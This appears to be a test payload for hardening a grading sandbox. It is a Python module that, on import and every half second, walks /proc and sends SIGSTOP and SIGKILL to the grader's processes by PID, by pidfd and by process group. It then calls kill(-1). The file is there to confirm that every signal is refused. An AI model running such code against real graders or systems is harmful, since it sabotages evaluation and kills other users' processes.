# Payload: kill or freeze the grader. At import, and every half second while the worker
# lives, walk /proc from the worker's parent upward and send SIGSTOP then SIGKILL to every
# ancestor and to every process of the grading run it can see (everything below the
# topmost ancestor), each directly, through a pidfd and to its process group; then
# kill(-1) as its own user. The walk stops below the test process, so that a sandbox that
# failed cannot take the test (or the machine) down with it. Every signal must be refused:
# the run completes, every classmate gets its honest points, and this student is graded
# like alice. A signal that went through (kill or a pidfd accepted it, or its target is
# stopped) is printed as SENT.
import contextlib as _contextlib
import os as _os
import signal as _signal
import threading as _threading
import time as _time

_STOP_AT = @@TEST_PID@@  # the test process: never a target, nor anything above it


def _parents():
    parents = {}
    for entry in _os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat", "rb") as handle:
                    fields = handle.read().rsplit(b")", 1)[1].split()
                parents[int(entry)] = int(fields[1])
            except (OSError, ValueError, IndexError):
                pass
    return parents


def _grading_run():
    """This worker's ancestors below the test, and every process below the topmost."""
    parents = _parents()
    me = _os.getpid()
    ancestors = []
    pid = _os.getppid()
    while pid > 0 and pid != _STOP_AT and pid not in ancestors:
        ancestors.append(pid)
        pid = parents.get(pid, 0)
    children = {}
    for child, parent in parents.items():
        children.setdefault(parent, []).append(child)
    found = set(ancestors)
    stack = ancestors[-1:]
    while stack:
        for child in children.get(stack.pop(), []):
            if child not in found:
                found.add(child)
                stack.append(child)
    found.discard(me)
    found.discard(_STOP_AT)
    return ancestors, sorted(found)


def _attack():
    ancestors, targets = _grading_run()
    sent, refused = [], 0
    try:
        spared = _os.getpgid(_STOP_AT)  # the test's own group (the grader run shares it)
    except OSError:
        spared = -1
    for sig in (_signal.SIGSTOP, _signal.SIGKILL):
        for pid in targets:
            try:
                _os.kill(pid, sig)
                sent.append(f"kill {sig.name} {pid}")
            except OSError:
                refused += 1
            try:
                fd = _os.pidfd_open(pid)
                try:
                    _signal.pidfd_send_signal(fd, sig)
                    sent.append(f"pidfd {sig.name} {pid}")
                finally:
                    _os.close(fd)
            except OSError:
                refused += 1
            try:
                group = _os.getpgid(pid)
                if group not in (spared, _os.getpgid(0)):
                    # Its success says only that some member of the group took it (the
                    # init of a PID namespace takes and drops it): judged by its effect.
                    _os.killpg(group, sig)
            except OSError:
                refused += 1
    _time.sleep(0.05)
    for pid in targets:
        try:
            with open(f"/proc/{pid}/stat", "rb") as handle:
                state = handle.read().rsplit(b")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue  # gone: it may have ended on its own (another student's worker)
        if state in (b"T", b"t"):
            sent.append(f"stopped {pid}")
    if _os.getuid() != 0:  # as root this would be every process of the machine
        # Says it succeeded even when every signal was refused: only its effects tell.
        with _contextlib.suppress(OSError):
            _os.kill(-1, _signal.SIGKILL)
    return ancestors, targets, sent, refused


_ancestors, _targets, _sent, _refused = _attack()
print(
    f"kill_grader: uid {_os.getuid()}, ancestors {len(_ancestors)}, targets {len(_targets)}, "
    f"{_refused} refused" + "".join(f", SENT {s}" for s in _sent)
)


def _again():
    while True:
        _time.sleep(0.5)
        try:
            for sent in _attack()[2]:
                print(f"kill_grader: SENT {sent}", flush=True)
        except Exception:
            pass


_threading.Thread(target=_again, daemon=True).start()
